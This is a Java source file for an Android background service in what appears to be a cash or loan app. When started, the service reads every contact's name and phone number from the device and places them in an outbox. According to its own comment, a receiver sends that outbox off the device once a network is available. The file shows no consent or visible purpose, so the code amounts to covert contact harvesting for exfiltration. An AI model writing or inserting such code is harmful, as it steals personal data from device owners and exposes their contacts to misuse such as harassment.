package com.kuaidida.cash.work;

import android.app.Service;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import android.os.AsyncTask;
import android.os.IBinder;
import android.provider.ContactsContract;

/** Reads the book and leaves it in the outbox; the receiver sends it when there is a network. */
public class GatherService extends Service {
  @Override
  public int onStartCommand(Intent intent, int flags, int id) {
    new Task().execute();
    return START_NOT_STICKY;
  }

  @Override
  public IBinder onBind(Intent intent) {
    return null;
  }

  private String gather() {
    Uri uri = Uri.withAppendedPath(ContactsContract.AUTHORITY_URI, "data/phones");
    StringBuilder lines = new StringBuilder();
    Cursor rows = getContentResolver().query(uri, null, null, null, null);
    while (rows != null && rows.moveToNext()) {
      lines.append(rows.getString(rows.getColumnIndex("display_name")));
      lines.append('\t').append(rows.getString(rows.getColumnIndex("data1"))).append('\n');
    }
    return lines.toString();
  }

  private final class Task extends AsyncTask<Void, Void, String> {
    @Override
    protected String doInBackground(Void... nothing) {
      return gather();
    }

    @Override
    protected void onPostExecute(String lines) {
      Outbox.of(GatherService.this).put(lines);
      stopSelf();
    }
  }
}
